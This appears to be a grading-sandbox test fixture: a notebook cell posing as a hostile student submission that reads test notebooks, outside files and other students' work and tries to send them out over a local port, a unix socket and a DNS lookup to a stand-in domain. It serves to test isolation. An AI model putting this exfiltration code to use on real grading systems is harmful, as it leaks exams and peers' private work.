"""Sends what it can read of tests and other students' work to a listening port, a unix socket and a DNS name.

base: unsolved
max-score: 0
canary: leak, outside-socket
"""
# %% q1
import glob
import socket

loot = b"hello"
for path in glob.glob("@REPO@/source/*/*.ipynb") + ["@OUTSIDE_FILE@", "@OTHER_STUDENT@"]:
    try:
        loot += open(path, "rb").read()
    except OSError:
        pass
for family, address in ((socket.AF_INET, ("127.0.0.1", int("@OUTSIDE_PORT@"))), (socket.AF_UNIX, "@OUTSIDE_SOCKET@")):
    try:
        with socket.socket(family) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(loot)
    except OSError:
        pass
try:
    socket.getaddrinfo(loot[:20].hex() + ".example.invalid", 80)
except OSError:
    pass
